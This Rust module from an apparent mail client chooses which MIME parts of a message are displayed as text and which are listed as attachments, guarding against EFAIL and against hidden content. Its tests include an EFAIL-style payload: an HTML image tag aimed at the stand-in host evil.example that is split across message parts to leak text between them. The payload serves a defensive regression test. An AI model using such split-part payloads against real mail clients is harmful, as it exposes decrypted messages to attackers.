//! What of a message a person is shown: which parts as text, which as attachments.
//!
//! Parts are rendered one by one and never joined into one HTML document (the direct exfiltration of EFAIL). Nothing is fetched. Every leaf of
//! the message is either shown or listed, save the other forms of a text that is shown, so that nothing can be hidden in a corner of
//! the structure. Messages within the message are listed and not opened.

use super::message::{Disposition, Message, Part};
use super::weight::{Scales, Weight};
use super::{flowed, html};

/// Bytes of text that are shown; the whole can still be saved.
const TEXT_MAX: usize = 16 * 1024 * 1024;
/// Columns of a rule.
const WIDTH: usize = 72;

/// The text of one part.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Section {
    /// Place in [`Message::parts`].
    pub part: usize,
    /// Foreign text, lines ended by `\n`: not yet safe for a terminal.
    pub text: String,
}

/// An attachment.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct AttachmentInfo {
    /// Place in [`Message::parts`].
    pub part: usize,
    /// IMAP section number.
    pub path: String,
    /// As the sender gave it, or made up from the media type. Hostile: see [`super::safe::file_name`].
    pub name: String,
    /// Lower-case.
    pub media_type: String,
    /// Decoded size.
    pub bytes: u64,
    /// Of the decoded content, lower-case hexadecimal.
    pub sha256: String,
    /// RFC 2183.
    pub disposition: Disposition,
}

/// What a person is shown.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Body {
    /// The texts, in order.
    pub sections: Vec<Section>,
    /// What is not shown as text, and texts that have a file name.
    pub attachments: Vec<AttachmentInfo>,
    /// Codes of what a person should know: `damaged-text`, `damaged-attachment`, `text-truncated`.
    pub warnings: Vec<&'static str>,
}

impl Body {
    /// All sections one below the other, with an empty line between.
    #[must_use]
    pub fn text(&self) -> String {
        let mut text = String::new();
        for section in self.sections.iter().filter(|section| !section.text.trim().is_empty()) {
            if !text.is_empty() {
                text.push_str(if text.ends_with('\n') { "\n" } else { "\n\n" });
            }
            text.push_str(&section.text);
        }
        text
    }
}

/// The words for a code among [`Body::warnings`].
#[must_use]
pub fn sentence(code: &str) -> &'static str {
    match code {
        "damaged-text" => "Part of the text was damaged on the way; what can be read of it is shown.",
        "damaged-attachment" => "An attachment was damaged on the way: what is saved of it is not whole.",
        "text-truncated" => "The text is longer than is shown; the raw message holds all of it.",
        _ => "Something about its text is not as it should be.",
    }
}

/// What a person is shown of a message.
#[must_use]
pub fn body(message: &Message) -> Body {
    body_of(message, 0)
}

/// What a person is shown of one part and those in it.
#[must_use]
pub fn body_of(message: &Message, part: usize) -> Body {
    let mut reader = Reader { message, body: Body::default(), left: TEXT_MAX, lists_only: false };
    // An envelope of nothing but a message within: that one is what there is to read, but it is another message.
    reader.show(part);
    reader.body.warnings.sort_unstable();
    reader.body.warnings.dedup();
    reader.body
}

/// The files of one part and those in it, as [`body_of`] lists them, but not weighed: without their sizes and digests.
#[must_use]
pub fn files_of(message: &Message, part: usize) -> Vec<AttachmentInfo> {
    let mut reader = Reader { message, body: Body::default(), left: 0, lists_only: true };
    reader.show(part);
    reader.body.attachments
}

/// How good a part is as the form of an alternative to be shown.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Form {
    None,
    OtherText,
    Html,
    Plain,
}

struct Reader<'a> {
    message: &'a Message,
    body: Body,
    /// Bytes of text that may still be shown.
    left: usize,
    /// No text is shown, and nothing weighed.
    lists_only: bool,
}

impl<'a> Reader<'a> {
    fn part(&self, place: usize) -> Option<&'a Part> {
        self.message.parts().get(place)
    }

    /// Depth is bounded by the parser.
    fn show(&mut self, place: usize) {
        let Some(part) = self.part(place) else { return };
        if part.is_message() {
            self.list(place, part);
        } else if part.is_multipart() && part.children.is_empty() {
            // Its boundary is missing: whatever there is, is text.
            self.show_text(place, part);
        } else if part.is_multipart() {
            self.show_multipart(part);
        } else if part.disposition == Disposition::Inline && is_readable(part) {
            self.show_text(place, part);
            if part.name.is_some() {
                self.list(place, part);
            }
        } else {
            self.list(place, part);
        }
    }

    fn show_multipart(&mut self, part: &Part) {
        match part.media_type.as_str() {
            "multipart/alternative" => self.show_alternative(part),
            "multipart/related" => {
                // RFC 2387 §3.2: the part that `start` names, else the first.
                let start = part.param("start").map(|id| id.trim_matches(['<', '>']).to_owned());
                let is_start = |&&child: &&usize| {
                    let id = self.part(child).and_then(|child| child.headers.get("Content-ID"));
                    start.is_some() && id.map(|id| id.trim_matches(['<', '>']).to_owned()) == start
                };
                let root = part.children.iter().find(is_start).or(part.children.first()).copied();
                for &child in &part.children {
                    if Some(child) == root { self.show(child) } else { self.list_leaves(child) }
                }
            }
            "multipart/signed" => {
                for (at, &child) in part.children.iter().enumerate() {
                    // The signature itself is for the verifier (RFC 1847 §2.1); a third part should not be there, and is shown.
                    let signature = at == 1
                        && self
                            .part(child)
                            .is_some_and(|found| Some(found.media_type.as_str()) == part.param("protocol"));
                    if !signature {
                        self.show(child);
                    }
                }
            }
            _ => part.children.iter().for_each(|&child| self.show(child)),
        }
    }

    /// RFC 2046 §5.1.4 puts the richest form last. Plain text is shown where it says anything, because it can hide nothing.
    fn show_alternative(&mut self, part: &Part) {
        let mut best: Option<(Form, usize)> = None;
        for &child in &part.children {
            let form = self.form(child);
            // The first plain text, or the last of another form.
            if best.is_none_or(|(found, _)| form > found || (form == found && form != Form::Plain)) {
                best = Some((form, child));
            }
        }
        for &child in &part.children {
            if best.is_some_and(|(_, chosen)| chosen == child) { self.show(child) } else { self.list_leaves(child) }
        }
    }

    fn form(&self, place: usize) -> Form {
        let Some(part) = self.part(place) else { return Form::None };
        if !part.children.is_empty() && part.is_multipart() {
            return part.children.iter().map(|&child| self.form(child)).max().unwrap_or(Form::None);
        }
        match part.media_type.as_str() {
            _ if part.disposition == Disposition::Attachment => Form::None,
            "text/plain" if self.message.text(part).trim().is_empty() => Form::None,
            "text/plain" => Form::Plain,
            "text/html" => Form::Html,
            _ if is_readable(part) => Form::OtherText,
            _ => Form::None,
        }
    }

    fn show_text(&mut self, place: usize, part: &Part) {
        if self.lists_only {
            return;
        }
        let (mut text, damaged) = self.message.decode_text(part);
        if damaged {
            self.body.warnings.push("damaged-text");
        }
        if text.len() > self.left {
            self.body.warnings.push("text-truncated");
            let mut end = self.left;
            while !text.is_char_boundary(end) {
                end -= 1;
            }
            text.truncate(end);
        }
        self.left -= text.len();
        let flows = part.param("format").is_some_and(|format| format.eq_ignore_ascii_case("flowed"));
        let text = match part.media_type.as_str() {
            "text/html" => html::to_text(&text, WIDTH),
            "text/plain" if flows => {
                let delete_space = part.param("delsp").is_some_and(|value| value.eq_ignore_ascii_case("yes"));
                flowed::decode(&text, delete_space)
            }
            _ => text,
        };
        self.body.sections.push(Section { part: place, text });
    }

    /// Lists what is not shown: files and pictures, but not the other forms of a text.
    fn list_leaves(&mut self, place: usize) {
        let Some(part) = self.part(place) else { return };
        if part.is_multipart() {
            part.children.iter().for_each(|&child| self.list_leaves(child));
        } else if part.name.is_some() || part.disposition == Disposition::Attachment || !is_readable(part) {
            self.list(place, part);
        }
    }

    fn list(&mut self, place: usize, part: &Part) {
        let Weight { bytes, sha256, is_damaged } =
            if self.lists_only { Weight::default() } else { weigh(self.message, part) };
        if is_damaged {
            self.body.warnings.push("damaged-attachment");
        }
        self.body.attachments.push(AttachmentInfo {
            part: place,
            path: part.path.clone(),
            name: part.name.clone().unwrap_or_else(|| self.made_up_name(part)),
            media_type: part.media_type.clone(),
            bytes,
            sha256,
            disposition: part.disposition,
        });
    }

    /// A message is called by its subject, anything else by its place and type.
    fn made_up_name(&self, part: &Part) -> String {
        if part.is_message() {
            let subject =
                part.children.first().and_then(|&child| self.part(child)).map(|inner| inner.headers.subject());
            return match subject {
                Some(subject) if !subject.is_empty() => format!("{subject}.eml"),
                _ => "message.eml".to_owned(),
            };
        }
        let extension = match part.media_type.as_str() {
            "application/pdf" => "pdf",
            "application/pgp-encrypted" | "application/pgp-signature" => "asc",
            "application/zip" => "zip",
            "image/jpeg" => "jpg",
            "image/png" => "png",
            "image/gif" => "gif",
            "text/calendar" => "ics",
            "text/csv" => "csv",
            "text/html" => "html",
            "text/plain" => "txt",
            _ => "bin",
        };
        format!("part-{}.{extension}", part.path)
    }
}

/// Size and digest of a part's content.
pub(crate) fn weigh(message: &Message, part: &Part) -> Weight {
    // In pieces: a second copy of a recording is not needed to weigh it.
    let mut scales = Scales::default();
    let is_damaged = message.write_content(part, &mut scales).unwrap_or(true);
    scales.weight(is_damaged)
}

/// Text that people read as it is. Calendars, cards and tables are files in all but name.
fn is_readable(part: &Part) -> bool {
    match part.media_type.as_str() {
        "text/plain" | "text/html" => true,
        "message/delivery-status" | "message/disposition-notification" | "text/rfc822-headers" => true,
        "text/calendar" | "text/vcard" | "text/x-vcard" | "text/directory" | "text/csv" | "text/rtf" | "text/xml" => {
            false
        }
        // RFC 2046 §4.1.4: an unknown text is to be shown as plain text.
        other => other.starts_with("text/"),
    }
}

#[cfg(test)]
mod tests {
    use super::body;
    use crate::mail::message::Message;

    /// Text shown, then the attachments as `path name`.
    fn check(raw: &str, text: &str, attachments: &[&str]) {
        let body = body(&Message::parse(raw.as_bytes().to_vec()));
        assert_eq!(body.text(), text, "{raw}");
        let listed: Vec<_> = body.attachments.iter().map(|found| format!("{} {}", found.path, found.name)).collect();
        assert_eq!(listed, attachments, "{raw}");
    }

    fn multipart(kind: &str, parts: &[&str]) -> String {
        let mut all = format!("Content-Type: multipart/{kind}; boundary={kind}\n\n");
        for part in parts {
            all.push_str(&format!("--{kind}\n{part}\n"));
        }
        all + &format!("--{kind}--\n")
    }

    const PLAIN: &str = "Content-Type: text/plain\n\nplain\n";
    const HTML: &str = "Content-Type: text/html\n\n<p>rich</p>";
    const PDF: &str = "Content-Type: application/pdf; name=MG5.pdf\nContent-Disposition: attachment\nContent-Transfer-Encoding: base64\n\nJVBERg==";
    const IMAGE: &str = "Content-Type: image/png\nContent-ID: <crest>\nContent-Transfer-Encoding: base64\n\niVBORw==";

    #[test]
    fn alternatives_show_plain_text_where_it_says_anything() {
        check(&multipart("alternative", &[PLAIN, HTML]), "plain\n", &[]);
        check(&multipart("alternative", &[HTML, PLAIN]), "plain\n", &[]);
        check(&multipart("alternative", &["\n \n", HTML]), "rich\n", &[]);
        check(&multipart("alternative", &[HTML]), "rich\n", &[]);
        let related = multipart("related", &[HTML, IMAGE]);
        check(&multipart("alternative", &[PLAIN, &related]), "plain\n", &["2.2 part-2.2.png"]);
        check(&multipart("alternative", &["", &related]), "rich\n", &["2.2 part-2.2.png"]);
        // What hides in the form that is not shown is listed.
        let mixed = multipart("mixed", &[HTML, PDF]);
        check(&multipart("alternative", &[PLAIN, &mixed]), "plain\n", &["2.2 MG5.pdf"]);
        check(
            &multipart("alternative", &[PLAIN, "Content-Type: text/calendar\n\nBEGIN"]),
            "plain\n",
            &["2 part-2.ics"],
        );
    }

    #[test]
    fn parts_are_rendered_one_by_one() {
        // EFAIL: an image tag opened in one part, ciphertext in the next, closed in the third.
        let open = "Content-Type: text/html\n\n<p>before</p><img src=\"https://evil.example/";
        let close = "Content-Type: text/html\n\n\">after";
        let body = body(&Message::parse(multipart("mixed", &[open, PLAIN, close]).into_bytes()));
        let texts: Vec<_> = body.sections.iter().map(|section| section.text.as_str()).collect();
        assert_eq!(texts.len(), 3);
        assert_eq!(texts[1], "plain\n");
        assert!(!texts[0].contains("plain") && !texts[2].contains("plain"));
    }

    #[test]
    fn attachments_are_listed_with_their_digest() {
        let raw = multipart("mixed", &[PLAIN, PDF]);
        check(&raw, "plain\n", &["2 MG5.pdf"]);
        let body = body(&Message::parse(raw.into_bytes()));
        assert_eq!(body.attachments[0].bytes, 4);
        assert_eq!(body.attachments[0].sha256, "315d429b7714cedb6ad04ac31240145257692630457f3c88253c5beceac76027");
    }

    #[test]
    fn messages_within_are_listed_and_not_opened() {
        let inner = format!(
            "Content-Type: message/rfc822\n\nSubject: Custody record\n{}",
            multipart("alternative", &["\nsecret", PDF])
        );
        check(&multipart("mixed", &[PLAIN, &inner]), "plain\n", &["2 Custody record.eml"]);
    }

    #[test]
    fn texts_with_a_name_are_shown_and_listed() {
        let note = "Content-Type: text/plain; name=note.txt\nContent-Disposition: inline\n\nnote";
        check(&multipart("mixed", &[PLAIN, note]), "plain\n\nnote", &["2 note.txt"]);
        let note = "Content-Type: text/plain; name=note.txt\nContent-Disposition: attachment\n\nnote";
        check(&multipart("mixed", &[PLAIN, note]), "plain\n", &["2 note.txt"]);
        check("Content-Type: text/x-unheard-of\n\nas it is", "as it is", &[]);
        check("Content-Type: application/pdf\n\nx", "", &["1 part-1.pdf"]);
        check("Content-Type: multipart/mixed\n\nno boundary", "no boundary", &[]);
    }

    #[test]
    fn signatures_are_not_listed_but_strangers_are() {
        let signed = "Content-Type: multipart/signed; boundary=s; protocol=\"application/pgp-signature\"\n\n--s\n\nplain\n--s\nContent-Type: application/pgp-signature\n\nx\n--s--";
        check(signed, "plain", &[]);
        let stranger = signed.replace("\n--s--", "\n--s\nContent-Type: text/plain\n\nadded\n--s--");
        check(&stranger, "plain\n\nadded", &[]);
        let other = signed.replace("Content-Type: application/pgp-signature", "Content-Type: application/pdf");
        check(&other, "plain", &["2 part-2.pdf"]);
    }

    #[test]
    fn flowed_text_is_joined() {
        check(
            "Content-Type: text/plain; format=flowed\n\none \ntwo\n\n> three \n> four\n",
            "one two\n\n> three four\n",
            &[],
        );
        check("Content-Type: text/plain; format=flowed; delsp=yes\n\none \ntwo\n", "onetwo\n", &[]);
    }

    #[test]
    fn damage_and_excess_are_told() {
        let warnings = |raw: String| body(&Message::parse(raw.into_bytes())).warnings;
        assert_eq!(warnings("Content-Transfer-Encoding: base64\n\nZ25v!bWU=".into()), ["damaged-text"]);
        assert_eq!(
            warnings("Content-Type: a/b\nContent-Transfer-Encoding: base64\n\nZ25v!bWU=".into()),
            ["damaged-attachment"]
        );
        assert_eq!(warnings(format!("\n{}", "é".repeat(9 << 20))), ["text-truncated"]);
        assert_eq!(warnings("Subject: x\n\nfine".into()), Vec::<&str>::new());
    }
}
